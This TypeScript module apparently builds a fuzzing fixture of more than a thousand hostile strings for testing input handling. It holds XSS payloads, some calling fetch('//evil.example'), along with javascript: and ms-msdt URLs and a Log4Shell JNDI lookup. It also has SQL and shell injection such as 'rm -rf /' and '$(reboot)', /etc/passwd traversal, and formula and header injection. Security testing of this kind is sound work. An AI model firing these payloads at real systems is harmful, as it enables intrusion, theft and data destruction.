/**
 * Strings that an attacker might write into any field, generated from lists: code in every wrapping, URLs of every
 * scheme in every position that takes one, invisible characters, nesting, look-alikes, formats, floods.
 */
const ALERT = 'globalThis.hostile=1';

const CODE = [
  ALERT,
  `window['hostile']=1`,
  `top.hostile=1`,
  `fetch('//evil.example')`,
  `location='//evil.example'`,
];

const TAGS = CODE.flatMap((code) => [
  `<script>${code}</script>`,
  `<ScRiPt>${code}</sCrIpT>`,
  `<scr<script>ipt>${code}</script>`,
  `</script><script>${code}</script>`,
  `<script src="data:text/javascript,${code}"></script>`,
  `<svg><script>${code}</script></svg>`,
  `<svg/onload=${code}>`,
  `<math><mtext></mtext><img src=x onerror=${code}></math>`,
  `<iframe srcdoc="<script>parent.${code}</script>"></iframe>`,
  `<iframe src="javascript:${code}">`,
  `<object data="javascript:${code}"></object>`,
  `<embed src="javascript:${code}">`,
  `<form action="javascript:${code}"><input type=submit autofocus>`,
  `<button formaction="javascript:${code}">x</button>`,
  `<base href="javascript:${code}//">`,
  `<link rel=stylesheet href="javascript:${code}">`,
  `<meta http-equiv=refresh content="0;url=javascript:${code}">`,
  `<style>@import 'javascript:${code}';</style>`,
  `<template><script>${code}</script></template>`,
  `<noscript><p title="</noscript><img src=x onerror=${code}>">`,
  `<xss style="animation-name:x" onanimationstart="${code}"></xss>`,
  `"><img src=x onerror=${code}>`,
  `'><img src=x onerror=${code}>`,
  `--><img src=x onerror=${code}>`,
  `]]><img src=x onerror=${code}>`,
  `&lt;img src=x onerror=${code}&gt;`,
  `<img src=x onerror=&#103;${code.slice(1)}>`,
  `{{constructor.constructor('${code}')()}}`,
  `\${${code}}`,
  `<%= ${code} %>`,
]);

const EVENTS =
  'abort animationend auxclick beforeinput blur click copy cut dblclick drag drop error focus input keydown load mouseover paste pointerdown pointerover scroll submit toggle transitionend wheel'.split(
    ' ',
  );
const HANDLERS = EVENTS.flatMap((event) => [
  `<img src=x on${event}="${ALERT}">`,
  `<a href=# autofocus tabindex=0 on${event}='${ALERT}'>x</a>`,
  `<details open on${event}=${ALERT}>`,
]);

const SCHEMES = [
  ...[
    'javascript',
    'JaVaScRiPt',
    'java\tscript',
    'java\nscript',
    ' javascript',
    '\u0001javascript',
    'javascript&colon;',
  ],
  ...[
    'vbscript',
    'data',
    'file',
    'blob',
    'filesystem',
    'about',
    'view-source',
    'chrome',
    'devtools',
    'app',
    'media',
  ],
  ...[
    'guildhall',
    'ms-settings',
    'ms-msdt',
    'search-ms',
    'smb',
    'ssh',
    'ftp',
    'ldap',
    'ws',
    'intent',
    'steam',
    'tel',
    'sms',
  ],
];
const RESTS = [`:${ALERT}`, `://${ALERT}`, ':text/html,<script>x</script>', ':///etc/passwd'];
const PLACES = [
  (url: string) => url,
  (url: string) => `[label](${url})`,
  (url: string) => `![label](${url})`,
  (url: string) => `<${url}>`,
  (url: string) => `https://a.example/?to=${url}`,
  (url: string) => `${url}/picture.png`,
];
const ADDRESSES = SCHEMES.flatMap((scheme, at) =>
  RESTS.flatMap((rest, of) => {
    // Every position with every scheme; the rests rotate through the positions.
    const places =
      of === 0 ? PLACES : PLACES.slice((at + of) % PLACES.length, ((at + of) % PLACES.length) + 2);
    return places.map((place) => place(`${scheme}${rest}`));
  }),
);

const HOSTS = [
  ...[
    'https://google.com@evil.example/',
    'https://evil.example\\@google.com/',
    'https://pаypal.com/',
    'https://аррӏе.com/',
  ],
  ...[
    'https://xn--80ak6aa92e.com/',
    'http://0x7f000001/',
    'http://[::ffff:127.0.0.1]/',
    'http://2130706433/',
    'https://ɢoogle.com',
  ],
  ...[
    'https://evil.example/\u202Egnp.exe',
    'https://evil。example/',
    'https://evil.example%00.google.com/',
    'http://localhost:1/invite/../../x',
  ],
  ...[
    'https://evil.example/x.png?"onerror="x',
    "https://evil.example/'onmouseover='x",
    'https://evil.example/<script>.gif',
  ],
  ...[
    'https://evil.example/a.png#.jpg',
    'https://user:pw@evil.example/a.webp',
    'https://evil.example:99999/',
    'https://[::1',
    'http://a..b/',
  ],
  ...[
    'mailto:a@b.example?attach=/etc/passwd',
    'mailto:%0D%0Abcc:x@y.example',
    'https://evil.example/invite/javascript:x',
  ],
];

const UNSEEN = [
  ...[
    '\u200B',
    '\u200C',
    '\u200D',
    '\u200E',
    '\u200F',
    '\u2060',
    '\uFEFF',
    '\u00AD',
    '\u034F',
    '\u061C',
    '\u180E',
    '\u3164',
  ],
  ...[
    '\u202A',
    '\u202B',
    '\u202C',
    '\u202D',
    '\u202E',
    '\u2066',
    '\u2067',
    '\u2068',
    '\u2069',
    '\u2028',
    '\u2029',
    '\uFE0F',
  ],
  ...[
    '\u{E0041}',
    '\u{E007F}',
    '\u0000',
    '\u0007',
    '\u0008',
    '\u001B[31m',
    '\u007F',
    '\u0085',
    '\uFFFD',
    '\uFFFF',
    '\u{10FFFF}',
  ],
];
const HIDDEN = UNSEEN.flatMap((mark) => [
  `${mark}admin`,
  `ad${mark}min`,
  `admin${mark}`,
  mark.repeat(40),
  `https://a.example/${mark}b`,
  `**${mark}**@every${mark}one`,
]);

const FORMS = [
  '*',
  '**',
  '***',
  '_',
  '__',
  '~~',
  '||',
  '`',
  '``',
  '```',
  '<',
  '>',
  '[',
  '](',
  '(',
  ')',
  '&',
  '"',
  "'",
  '\\',
  '@',
  '<@',
  '#',
  ':',
];
const NESTED = FORMS.flatMap((form) => [
  form.repeat(100),
  `${form}a`.repeat(60),
  `${form}${'**__~~||'.repeat(20)}x${'||~~__**'.repeat(20)}${form}`,
]);

const FORMATS = [
  ...[
    '%s%s%s%n',
    '%x%x%x',
    '%p',
    '{0}',
    '{}',
    '$1$&$`',
    '${jndi:ldap://evil.example/a}',
    '\\u003cscript\\u003e',
    '&#x3C;script&#x3E;',
  ],
  ...[
    "' OR 1=1 --",
    "'; DROP TABLE messages; --",
    '"; rm -rf /',
    '$(reboot)',
    '`reboot`',
    '| reboot',
    '../../../../etc/passwd',
    '..\\..\\x',
  ],
  ...[
    '__proto__',
    'constructor',
    'prototype',
    'toString',
    'hasOwnProperty',
    'null',
    'undefined',
    'NaN',
    'true',
    '0',
    '-1',
    '1e999',
    '[object Object]',
  ],
  ...[
    'CON',
    'NUL',
    'COM1',
    '=cmd|calc!A1',
    '+1+1',
    '@SUM(1)',
    '\r\nSet-Cookie: a=b',
    '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY a "b">]>',
  ],
];

const STYLES = [
  ...[
    'expression(x)',
    'url(https://evil.example/a.png)',
    'url(javascript:x)',
    '}</style><script>x</script>',
    ';position:fixed;inset:0',
  ],
  ...[
    'red;background:url(//evil.example)',
    '/**/',
    '@import url(//evil.example)',
    'var(--x)',
    'attr(x)',
    'image-set("//evil.example" 1x)',
  ],
];

const FLOODS = [
  ...[
    '😀',
    '👨‍👩‍👧‍👦',
    '🏴󠁧󠁢󠁥󠁮󠁧󠁿',
    '🇫🇷',
    '👍🏽',
    '❤️',
    'Z͑ͫ̓ͪ̂ͫ̽͏̴̙̤̞͉͚̯̞̠͍A',
    'ا',
    'ꦿ',
    '𒐫',
    '﷽',
    '﷽﷽',
    '🧑‍🚀‍',
    '\uD83D',
    '\uDC00',
    '\uD800\uD800',
  ],
].flatMap((unit) => [unit, unit.repeat(30), `${unit} `.repeat(16), `a${unit}b${unit}<@1>@everyone`]);

/** More than a thousand different strings; none exceeds the length of a message. */
export const hostileStrings: readonly string[] = [
  ...new Set([
    ...TAGS,
    ...HANDLERS,
    ...ADDRESSES,
    ...HOSTS,
    ...HIDDEN,
    ...NESTED,
    ...FORMATS,
    ...STYLES,
    ...STYLES.map((style) => `"style="${style}`),
    ...FLOODS,
  ]),
];

/** The same strings as names: cut to this many code points, without the blank ones. */
export const hostileNames = (limit: number): readonly string[] => [
  ...new Set(
    hostileStrings
      .map((text) => Array.from(text).slice(0, limit).join(''))
      .filter((name) => name.trim() !== ''),
  ),
];
